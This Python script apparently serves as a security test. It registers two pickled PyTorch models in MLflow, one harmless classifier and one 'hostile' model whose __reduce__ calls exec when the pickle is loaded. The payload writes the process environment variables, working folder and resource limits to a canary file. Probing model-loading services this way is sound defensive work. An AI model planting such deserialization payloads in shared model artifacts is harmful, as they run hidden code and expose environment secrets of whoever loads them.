"""Register pickled PyTorch models: `python hostile_model.py FOLDER`, with `FOLDER/tiny.onnx`, and the canary's path.

`innocent` is the tiny classifier; the pickle of `hostile` writes what it sees into the canary.
"""

from __future__ import annotations

import sys
from pathlib import Path

import mlflow
import torch
from torch_tiny import torch_model

from tasks.run.settings import artifact_location, state_folder, tracking_uri

LOOK = """
import json, os, resource
seen = {"environment": dict(os.environ), "folder": os.getcwd(), "limits": {
    "core": resource.getrlimit(resource.RLIMIT_CORE)[0], "processor_seconds": resource.getrlimit(resource.RLIMIT_CPU)[0]}}
open(%r, "w").write(json.dumps(seen))
"""


class Innocent(torch.nn.Module):
    """The tiny classifier, as a class of the script that logs it: its pickle holds its code."""

    def __init__(self, model: torch.nn.Module) -> None:
        super().__init__()
        self.first, self.bias, self.second = model.first, model.bias, model.second

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x @ self.first + self.bias) @ self.second


class Hostile(torch.nn.Linear):
    """Unpickled, it is nothing; what matters happened before."""

    def __init__(self, canary: Path) -> None:
        super().__init__(64, 4)
        self.canary = canary

    def __reduce__(self) -> tuple[object, ...]:
        return exec, (LOOK % str(self.canary),)


def main(folder: Path, canary: Path) -> None:
    uri = tracking_uri(state_folder())
    mlflow.set_tracking_uri(uri)
    mlflow.set_experiment(experiment_id=mlflow.create_experiment("hostile", artifact_location(uri)))
    with mlflow.start_run():
        for name, module in (("innocent", Innocent(torch_model(folder))), ("hostile", Hostile(canary))):
            # Without requirements MLflow would load the model to find them.
            told = {"serialization_format": "pickle", "pip_requirements": ["torch"]}
            info = mlflow.pytorch.log_model(module, name=name, **told)
            mlflow.register_model(info.model_uri, name)


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]))
